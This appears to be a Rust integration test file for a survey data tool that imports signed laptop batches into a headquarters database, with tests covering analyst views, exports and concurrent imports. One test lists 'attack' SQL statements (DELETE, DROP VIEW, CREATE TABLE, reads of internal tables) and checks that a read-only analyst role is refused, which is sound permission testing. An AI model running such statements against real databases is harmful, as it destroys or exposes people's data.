/// Runs a query on headquarters' database as its owner: the views' rows as text.
fn query(hq: &Headquarters, sql: &str) -> Vec<Vec<String>> {
    match &hq.database {
        Database::Embedded(dir) => {
            let conn =
                rusqlite::Connection::open_with_flags(dir.join("hq.db"), rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY)
                    .unwrap();
            let mut stmt = conn.prepare(sql).unwrap();
            let n = stmt.column_count();
            stmt.query_map([], |r| {
                Ok((0..n)
                    .map(|i| match r.get_ref(i).unwrap() {
                        rusqlite::types::ValueRef::Null => String::new(),
                        rusqlite::types::ValueRef::Integer(i) => i.to_string(),
                        rusqlite::types::ValueRef::Real(f) => f.to_string(),
                        rusqlite::types::ValueRef::Text(t) => String::from_utf8_lossy(t).into_owned(),
                        rusqlite::types::ValueRef::Blob(_) => "blob".into(),
                    })
                    .collect())
            })
            .unwrap()
            .map(Result::unwrap)
            .collect()
        }
        Database::Postgres(url) => {
            let mut c = postgres::Client::connect(url, postgres::NoTls).unwrap();
            let sql = sql.replace("FROM \"", "FROM analysis.\"").replace("FROM labels", "FROM analysis.labels");
            c.simple_query(&sql)
                .unwrap()
                .into_iter()
                .filter_map(|m| match m {
                    postgres::SimpleQueryMessage::Row(r) => {
                        Some((0..r.len()).map(|i| r.get(i).unwrap_or("").to_string()).collect())
                    }
                    _ => None,
                })
                .collect()
        }
    }
}

#[test]
fn analysts_read_each_form_and_repeat_as_a_view_laid_out_as_the_flat_files_with_labels() {
    on_both(|| {
        let hq = Headquarters::new();
        let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
        hq.register(&laptop);
        laptop.approved(&[answers(0), answers(1), answers(2)]);
        let out = tempfile::tempdir().unwrap();
        hq.import(&laptop.export(out.path())).unwrap();
        fourmi::batch::import::refresh_views(&mut hq.open()).unwrap();

        let rows = query(
            &hq,
            r#"SELECT sex, age, "journey/helped", "journey/helped/police", "journey/helped/smuggler", _revision, _uuid FROM "fieldtest" ORDER BY age"#,
        );
        assert_eq!(rows.len(), 3);
        assert_eq!(&rows[0][..6], ["female", "20", "police ngo", "1", "0", "1"]);
        assert_eq!(&rows[1][..2], ["male", "21"]);
        let incidents = query(
            &hq,
            r#"SELECT "incident/itype", "incident/perp", "incident/perp/smuggler", _index, _parent_uuid, _parent_table_name FROM "fieldtest-incident" ORDER BY _parent_uuid, _index"#,
        );
        assert_eq!(incidents.len(), 6, "two incidents per record");
        assert_eq!(&incidents[1][..4], ["detention", "police smuggler", "1", "2"]);
        assert!(rows.iter().any(|r| r[6] == incidents[0][4]), "a repeat's rows point at their record");
        assert_eq!(incidents[0][5], "fieldtest");
        let labels = query(
            &hq,
            r#"SELECT label FROM labels WHERE view = 'fieldtest' AND col = 'sex' AND value = 'female' AND language = 'French (fr)'"#,
        );
        assert_eq!(labels, [["Femme"]]);
        assert!(
            query(&hq, r#"SELECT col FROM labels WHERE view = 'fieldtest'"#).iter().all(|r| r[0] != "respondent_name"),
            "personal questions have no column, and no label"
        );
    });
}

/// The views are made in the import's own transaction: an import stopped after it committed
/// cannot leave records without their view.
#[test]
fn an_import_brings_the_views_of_its_forms_with_its_records() {
    on_both(|| {
        let hq = Headquarters::new();
        let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
        hq.register(&laptop);
        laptop.approved(&[answers(0), answers(1)]);
        let out = tempfile::tempdir().unwrap();
        hq.import(&laptop.export(out.path())).unwrap();
        assert_eq!(query(&hq, r#"SELECT count(*) FROM "fieldtest""#), [["2"]]);
        assert_eq!(
            query(
                &hq,
                r#"SELECT label FROM labels WHERE view = 'fieldtest' AND col = 'sex' AND value = 'male' AND language = 'English (en)'"#
            ),
            [["Male"]]
        );
    });
}

/// A form whose view would take the name of another form's (here the other's repeat) gets no
/// view, and a warning naming both: the other's rows are never shown under its name.
#[test]
fn a_form_whose_view_would_take_the_name_of_another_forms_view_gets_none_and_a_warning_naming_both() {
    on_both(|| {
        let hq = Headquarters::new();
        let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
        hq.register(&laptop);
        let out = tempfile::tempdir().unwrap();
        laptop.approved(&[answers(0), answers(1)]);
        hq.import(&laptop.export(&out.path().join("1"))).unwrap();
        let taker = FORM.replace("form_id = \"fieldtest\"", "form_id = \"fieldtest-incident\"");
        std::fs::write(laptop.path("form.toml"), taker).unwrap();
        laptop.approved(&[answers(2)]);
        assert_eq!(
            hq.import(&laptop.export(&out.path().join("2"))).unwrap().counts.imported,
            1,
            "its records are kept"
        );
        let failures = fourmi::batch::import::refresh_views(&mut hq.open()).unwrap_err();
        let warned = fourmi::errors::views_failed(&fourmi::i18n::Tr::new(fourmi::i18n::Lang::En), &failures);
        assert!(
            warned.contains("form fieldtest-incident:")
                && warned.contains("`fieldtest-incident`")
                && warned.contains("a view of form fieldtest;"),
            "{warned}"
        );
        let fr = fourmi::errors::views_failed(&fourmi::i18n::Tr::new(fourmi::i18n::Lang::Fr), &failures);
        assert!(fr.contains("formulaire fieldtest-incident :"), "in French too: {fr}");
        assert_eq!(
            query(&hq, r#"SELECT count(*) FROM "fieldtest-incident""#),
            [["4"]],
            "still the repeat of fieldtest"
        );
    });
}

/// Column names the database would take for one another (on SQLite names that differ only in
/// case, on PostgreSQL names cut at 63 bytes) are told apart by a mark, and each column holds
/// its own answers; `labels` names the columns as the view does.
#[test]
fn column_names_the_database_would_confuse_get_a_mark_and_each_keeps_its_own_answers() {
    on_both(|| {
        let hq = Headquarters::new();
        let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
        hq.register(&laptop);
        let long = "a_very_long_choice_name_that_goes_on_and_on_past_what_postgresql_keeps";
        let form = format!(
            "[settings]\nform_id = \"names\"\nversion = \"1\"\nconsent_question = \"consent\"\n\n\
             [[survey]]\ntype = \"select_one yes_no\"\nname = \"consent\"\nlabel = \"Agree?\"\n\n\
             [[choices]]\nlist_name = \"yes_no\"\nname = \"yes\"\nlabel = \"Yes\"\n\n\
             [[survey]]\ntype = \"integer\"\nname = \"N\"\nlabel = \"Big N\"\n\n\
             [[survey]]\ntype = \"integer\"\nname = \"n\"\nlabel = \"small n\"\n\n\
             [[survey]]\ntype = \"select_multiple l\"\nname = \"m\"\nlabel = \"M\"\n\n\
             [[choices]]\nlist_name = \"l\"\nname = \"{long}_one\"\nlabel = \"One\"\n\n\
             [[choices]]\nlist_name = \"l\"\nname = \"{long}_two\"\nlabel = \"Two\"\n"
        );
        std::fs::write(laptop.path("form.toml"), form).unwrap();
        laptop.approved(&[serde_json::json!({"consent": "yes", "N": 7, "n": 3, "m": [format!("{long}_two")]})]);
        let out = tempfile::tempdir().unwrap();
        hq.import(&laptop.export(out.path())).unwrap();
        fourmi::batch::import::refresh_views(&mut hq.open()).unwrap();
        let column = |label: &str| {
            let rows = query(
                &hq,
                &format!(
                    "SELECT col FROM labels WHERE view = 'names' AND label = '{label}' AND (value IS NULL OR value = '')"
                ),
            );
            assert_eq!(rows.len(), 1, "{label}: {rows:?}");
            rows[0][0].clone()
        };
        let value = |col: &str| query(&hq, &format!(r#"SELECT "{col}" FROM "names""#))[0][0].clone();
        let (big, small) = (column("Big N"), column("small n"));
        assert_ne!(big, small);
        assert_eq!((value(&big), value(&small)), ("7".to_string(), "3".to_string()));
        let options = query(
            &hq,
            "SELECT col FROM labels WHERE view = 'names' AND col LIKE 'm/%' AND (value IS NULL OR value = '')",
        );
        assert_eq!(options.len(), 2, "{options:?}");
        let mut got: Vec<String> = options.iter().map(|o| value(&o[0])).collect();
        got.sort();
        assert_eq!(got, ["0", "1"], "each option its own column");
    });
}

/// A typed column of the newest version reads an older version's value it cannot take (not a
/// day of the calendar, a number too large) as empty: the view itself always reads.
#[test]
fn a_typed_view_column_reads_an_older_versions_value_it_cannot_take_as_empty() {
    on_both(|| {
        let hq = Headquarters::new();
        let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
        hq.register(&laptop);
        let version = |v: &str, dt: &str, n: &str| {
            format!(
                "[settings]\nform_id = \"typed\"\nversion = \"{v}\"\nconsent_question = \"consent\"\n\n\
                 [[survey]]\ntype = \"select_one yes_no\"\nname = \"consent\"\nlabel = \"Agree?\"\n\n\
                 [[survey]]\ntype = \"{dt}\"\nname = \"dt\"\nlabel = \"When\"\n\n\
                 [[survey]]\ntype = \"{n}\"\nname = \"n\"\nlabel = \"How many\"\n\n\
                 [[choices]]\nlist_name = \"yes_no\"\nname = \"yes\"\nlabel = \"Yes\"\n"
            )
        };
        let out = tempfile::tempdir().unwrap();
        let enter = |v: &str, dt: &str, n: &str, records: &[serde_json::Value]| {
            std::fs::write(laptop.path("form.toml"), version(v, dt, n)).unwrap();
            laptop.approved(records);
            hq.import(&laptop.export(&out.path().join(v))).unwrap();
        };
        enter("1", "date", "integer", &[serde_json::json!({"consent": "yes", "dt": "2024-02-29", "n": 4})]);
        let odd = ["2026-13-45", "2025-02-29", "0000-01-01", "\u{662}\u{660}\u{662}\u{666}-01-01"];
        let odd: Vec<serde_json::Value> =
            odd.iter().map(|d| serde_json::json!({"consent": "yes", "dt": d, "n": f64::MAX})).collect();
        enter("2", "text", "decimal", &odd);
        enter("3", "date", "integer", &[serde_json::json!({"consent": "yes", "dt": "2026-01-31", "n": 2})]);
        fourmi::batch::import::refresh_views(&mut hq.open()).unwrap();
        assert_eq!(query(&hq, r#"SELECT count(*) FROM "typed""#), [["6"]]);
        let mut largest = 0;
        hq.open()
            .each_record("typed", |r| largest += usize::from(r.answers["n"] == serde_json::json!(f64::MAX)))
            .unwrap();
        assert_eq!(largest, 4, "the largest decimal reads back as itself");
        if matches!(hq.database, Database::Postgres(_)) {
            assert_eq!(query(&hq, r#"SELECT count(dt), count(n) FROM "typed""#), [["2", "2"]]);
            assert_eq!(query(&hq, r#"SELECT min(dt)::text FROM "typed""#), [["2024-02-29"]]);
        }
    });
}

#[test]
fn on_postgresql_the_analysts_role_reads_the_views_and_nothing_else() {
    if !common::pg::available() {
        return;
    }
    ON_POSTGRES.set(true);
    let hq = Headquarters::new();
    ON_POSTGRES.set(false);
    let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
    hq.register(&laptop);
    laptop.approved(&[answers(0), answers(1)]);
    let out = tempfile::tempdir().unwrap();
    hq.import(&laptop.export(out.path())).unwrap();
    fourmi::batch::import::refresh_views(&mut hq.open()).unwrap();
    let Database::Postgres(url) = &hq.database else { unreachable!() };
    let analyst = format!("analyst_{}", std::process::id());
    let mut owner = postgres::Client::connect(url, postgres::NoTls).unwrap();
    owner
        .batch_execute(&format!("DROP ROLE IF EXISTS {analyst}; CREATE ROLE {analyst} LOGIN IN ROLE fourmi_reader"))
        .unwrap();

    let mut c = common::pg::connect_as(url, &analyst).unwrap();
    let n: i64 = c.query_one("SELECT count(*) FROM analysis.fieldtest", &[]).unwrap().get(0);
    assert_eq!(n, 2);
    let n: i64 = c.query_one(r#"SELECT count(*) FROM analysis."fieldtest-incident""#, &[]).unwrap().get(0);
    assert_eq!(n, 4);
    for attack in [
        "SELECT count(*) FROM records",
        "SELECT * FROM meta",
        "SELECT * FROM devices",
        "DELETE FROM analysis.fieldtest",
        "UPDATE analysis.fieldtest SET sex = 'male'",
        "INSERT INTO analysis.labels VALUES ('a', 'b', NULL, 'c', 'd')",
        "DROP VIEW analysis.fieldtest",
        "CREATE TABLE analysis.mine (x int)",
        "CREATE TABLE public.mine (x int)",
    ] {
        let err = c.batch_execute(attack).expect_err(attack);
        let refused =
            [postgres::error::SqlState::INSUFFICIENT_PRIVILEGE, postgres::error::SqlState::FEATURE_NOT_SUPPORTED];
        assert!(err.code().is_some_and(|c| refused.contains(c)), "{attack}: {err:?}");
    }
    let n: i64 = owner.query_one("SELECT count(*) FROM records", &[]).unwrap().get(0);
    assert_eq!(n, 2, "nothing changed");

    // Nor can the analyst hold imports up: every lock an import or opening headquarters waits
    // for is refused to the role, and an advisory lock it takes holds nothing up.
    for lock in
        ["LOCK TABLE imports IN SHARE ROW EXCLUSIVE MODE", "LOCK TABLE fourmi_schema IN SHARE ROW EXCLUSIVE MODE"]
    {
        let err = c.batch_execute(&format!("BEGIN; {lock}")).expect_err(lock);
        assert_eq!(err.code(), Some(&postgres::error::SqlState::INSUFFICIENT_PRIVILEGE), "{lock}: {err:?}");
        c.batch_execute("ROLLBACK").unwrap();
    }
    c.batch_execute("SELECT pg_advisory_lock(k) FROM generate_series(4600, 4610) k").unwrap();
    laptop.approved(&[answers(2)]);
    let next = laptop.export(&out.path().join("2"));
    let (done, finished) = std::sync::mpsc::channel();
    std::thread::scope(|s| {
        s.spawn(|| done.send(hq.import(&next).map(|i| i.counts.imported).map_err(|e| e.to_string())).unwrap());
        let imported = finished.recv_timeout(std::time::Duration::from_secs(120));
        assert_eq!(imported.expect("the import went on while the analyst held advisory locks"), Ok(1));
    });
}

/// Holds headquarters' writers' turn (as an import under way does) until dropped.
fn hold_writers(hq: &Headquarters) -> Box<dyn std::any::Any> {
    match &hq.database {
        Database::Embedded(dir) => {
            let conn = rusqlite::Connection::open(dir.join("hq.db")).unwrap();
            conn.execute_batch("BEGIN IMMEDIATE").unwrap();
            Box::new(conn)
        }
        Database::Postgres(url) => {
            let mut c = postgres::Client::connect(url, postgres::NoTls).unwrap();
            c.batch_execute("BEGIN; LOCK TABLE imports IN SHARE ROW EXCLUSIVE MODE").unwrap();
            Box::new(c)
        }
    }
}

/// An import that finds another at work says it waits for it (rather than seeming to hang),
/// then imports once the other is done.
#[test]
fn an_import_that_must_wait_for_another_says_so_then_imports_when_it_is_done() {
    use std::io::BufRead;
    on_both(|| {
        let hq = Headquarters::new();
        let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
        hq.register(&laptop);
        laptop.approved(&[answers(0)]);
        let out = tempfile::tempdir().unwrap();
        let batch = laptop.export(out.path());
        let other = hold_writers(&hq);
        let mut child = Command::new(env!("CARGO_BIN_EXE_fourmi"))
            .args(["hq", "import"])
            .arg(&batch)
            .args(hq.cli_args())
            .env("LANG", "fr_FR.UTF-8")
            .env_remove("LC_ALL")
            .env_remove("LC_MESSAGES")
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let mut said = String::new();
        let mut stderr = std::io::BufReader::new(child.stderr.take().unwrap());
        stderr.read_line(&mut said).unwrap();
        assert!(said.contains("un autre import") && said.contains("attente"), "{said}");
        assert!(child.try_wait().unwrap().is_none(), "it waits");
        drop(other);
        let mut rest = String::new();
        std::io::Read::read_to_string(&mut stderr, &mut rest).unwrap();
        let done = child.wait_with_output().unwrap();
        assert!(done.status.success(), "{}\n{rest}", String::from_utf8_lossy(&done.stdout));
        assert_eq!(
            query(&hq, r#"SELECT count(*) FROM "fieldtest""#),
            [["1"]],
            "imported once the other was done: {rest}"
        );
    });
}

#[test]
fn two_importers_at_once_on_overlapping_batches_give_the_database_one_would() {
    on_both(|| {
        let hq = Headquarters::new();
        let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
        let out = tempfile::tempdir().unwrap();
        let first = laptop.approved(&(0..40).map(answers).collect::<Vec<_>>());
        let b1 = laptop.export(&out.path().join("1"));
        laptop.approved(&(40..80).map(answers).collect::<Vec<_>>());
        laptop.open().withdraw(&first[3]).unwrap();
        let b2 = laptop.export(&out.path().join("2"));
        laptop.approved(&(80..120).map(answers).collect::<Vec<_>>());
        let b3 = laptop.export(&out.path().join("3"));
        hq.register(&laptop);

        let files = |order: [&PathBuf; 3]| order.iter().map(|p| p.display().to_string()).collect::<Vec<_>>();
        let spawn = |order: [&PathBuf; 3]| {
            Command::new(env!("CARGO_BIN_EXE_fourmi"))
                .args(["hq", "import"])
                .args(files(order))
                .args(hq.cli_args())
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap()
        };
        let a = spawn([&b1, &b2, &b3]);
        let b = spawn([&b3, &b2, &b1]);
        let c = spawn([&b2, &b1, &b3]);
        for p in [a, b, c] {
            ok(&p.wait_with_output().unwrap());
        }
        let together = hq.dump();

        let alone = Headquarters::new_with_identity_of(&hq);
        alone.register(&laptop);
        for f in [&b1, &b2, &b3] {
            alone.import(f).unwrap();
        }
        assert_eq!(together, alone.dump(), "three importers at once, one after the other: the same database");
        assert_eq!(together.iter().filter(|l| l.starts_with("record ")).count(), 119);
        let devices = hq.open().devices().unwrap();
        assert_eq!(devices[0].imported, [1, 2, 3], "each batch recorded once");
    });
}

#[test]
fn headquarters_writes_typed_parquet_files_that_pyarrow_reads() {
    let python = Command::new("python3").args(["-c", "import pyarrow.parquet"]).output();
    if !python.map(|o| o.status.success()).unwrap_or(false) {
        eprintln!("SKIPPED: pyarrow is not installed (python3 -m pip install pyarrow)");
        return;
    }
    on_both(|| {
        let hq = Headquarters::new();
        let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
        hq.register(&laptop);
        laptop.approved(&[answers(0), answers(1), answers(2)]);
        let out = tempfile::tempdir().unwrap();
        hq.import(&laptop.export(out.path())).unwrap();
        let to = out.path().join("pq");
        let run = Command::new(env!("CARGO_BIN_EXE_fourmi"))
            .args(["hq", "export", "parquet", "--yes", "--k", "1", "--form", "fieldtest", "--to"])
            .arg(&to)
            .args(hq.cli_args())
            .output()
            .unwrap();
        ok(&run);
        let script = r#"
import json, sys, pyarrow.parquet as pq
main = pq.read_table(sys.argv[1] + "/fieldtest.parquet")
rep = pq.read_table(sys.argv[1] + "/fieldtest-incident.parquet")
types = {f.name: str(f.type) for f in main.schema}
rows = main.to_pylist()
print(json.dumps({"types": types, "rows": len(rows), "incidents": rep.num_rows,
    "helped": sorted(r["journey/helped"] for r in rows),
    "police": sorted(r["journey/helped/police"] for r in rows),
    "keys": set(r["_uuid"] for r in rows) >= set(r["_parent_uuid"] for r in rep.to_pylist())}))
"#;
        let read = Command::new("python3").args(["-c", script]).arg(&to).output().unwrap();
        ok(&read);
        let got: serde_json::Value = serde_json::from_slice(&read.stdout).unwrap();
        assert_eq!((got["rows"].as_u64(), got["incidents"].as_u64()), (Some(3), Some(6)));
        for (col, ty) in [
            ("sex", "string"),
            ("age", "string"),
            ("journey/helped/police", "int64"),
            ("_revision", "int64"),
            ("_uuid", "string"),
        ] {
            assert_eq!(got["types"][col], ty, "{col}: {}", got["types"]);
        }
        assert_eq!(got["police"], serde_json::json!([1, 1, 1]));
        assert_eq!(got["helped"][0], "police ngo");
        assert_eq!(got["keys"], true, "repeat rows point at their records");
        assert!(to.join("fieldtest-codebook.csv").exists(), "the labels come with them");
    });
}

#[test]
fn a_named_pipe_given_as_a_batch_is_refused_at_once_instead_of_waiting_for_a_writer() {
    let hq = Headquarters::new();
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("stick.batch");
    if !Command::new("mkfifo").arg(&fifo).status().is_ok_and(|s| s.success()) {
        eprintln!("SKIPPED: mkfifo is not available");
        return;
    }
    let mut run = Command::new(env!("CARGO_BIN_EXE_fourmi"))
        .args(["hq", "import"])
        .arg(&fifo)
        .args(hq.cli_args())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut ended = None;
    for _ in 0..600 {
        if let Some(status) = run.try_wait().unwrap() {
            ended = Some(status);
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    if ended.is_none() {
        let _ = run.kill();
    }
    let out = run.wait_with_output().unwrap();
    let status = ended.expect("`fourmi hq import` of a named pipe still waited after 30 s");
    assert!(!status.success());
    let said = String::from_utf8_lossy(&out.stderr).to_string() + &String::from_utf8_lossy(&out.stdout);
    assert!(said.contains("not a regular file"), "{said}");
}

/// A laptop key of small order (with which anyone could sign that laptop's batches) is not
/// registered.
#[test]
fn a_laptop_key_of_small_order_is_not_registered() {
    use base64::Engine;
    let mut identity = [0u8; 32];
    identity[0] = 1;
    let line = format!(
        "fourmi-device 8982b341-bc20-4906-b7ba-33160391b2dc {}",
        base64::engine::general_purpose::STANDARD.encode(identity)
    );
    let e = fourmi::store::hq::parse_device_line(&line).unwrap_err();
    assert!(e.to_string().contains("anyone could sign with"), "{e}");
}

/// `hq import` says which batch numbers of a laptop are missing, naming a laptop registered
/// without a name by its id alone.
#[test]
fn a_missing_batch_of_a_laptop_registered_without_a_name_is_noted_with_its_id_alone() {
    let hq = Headquarters::new();
    let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
    let out = tempfile::tempdir().unwrap();
    let fourmi =
        |args: &[&str]| Command::new(env!("CARGO_BIN_EXE_fourmi")).args(args).args(hq.cli_args()).output().unwrap();
    ok(&fourmi(&["hq", "devices", "add", &laptop.device_line()]));
    laptop.approved(&[answers(0)]);
    laptop.export(&out.path().join("1"));
    laptop.approved(&[answers(1)]);
    let second = laptop.export(&out.path().join("2"));
    let run = fourmi(&["hq", "import", &second.display().to_string()]);
    ok(&run);
    let said = String::from_utf8_lossy(&run.stdout);
    let device = laptop.open().device_id().to_string();
    assert!(said.contains(&format!("note: laptop {device}: batch 1 not imported yet")), "{said}");
}

/// An XLSX export refused for an answer longer than an Excel cell leaves nothing behind, not
/// even the folder it would have made, and says to write CSV instead, which keeps it whole.
#[test]
fn an_xlsx_export_refused_for_an_answer_excel_cannot_hold_leaves_no_folder() {
    let hq = Headquarters::new();
    let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
    hq.register(&laptop);
    let out = tempfile::tempdir().unwrap();
    let mut long = answers(0);
    long["story"] = serde_json::json!("word ".repeat(8_000));
    laptop.approved(&[long]);
    hq.import(&laptop.export(&out.path().join("1"))).unwrap();
    let export = |format: &str, to: &Path| {
        Command::new(env!("CARGO_BIN_EXE_fourmi"))
            .args(["hq", "export", format, "--yes", "--k", "1", "--form", "fieldtest"])
            .args(hq.cli_args())
            .arg("--to")
            .arg(to)
            .output()
            .unwrap()
    };
    let to = out.path().join("for-excel");
    let run = export("xlsx", &to);
    assert!(!run.status.success());
    let said = String::from_utf8_lossy(&run.stderr);
    assert!(said.contains("story") && said.contains("CSV"), "{said}");
    assert!(!to.exists(), "no folder left behind");
    let csv = out.path().join("csv");
    ok(&export("csv", &csv));
    let written = std::fs::read_to_string(csv.join("fieldtest.csv")).unwrap();
    assert!(written.contains(&"word ".repeat(8_000).trim_end().to_string()), "kept whole");
}
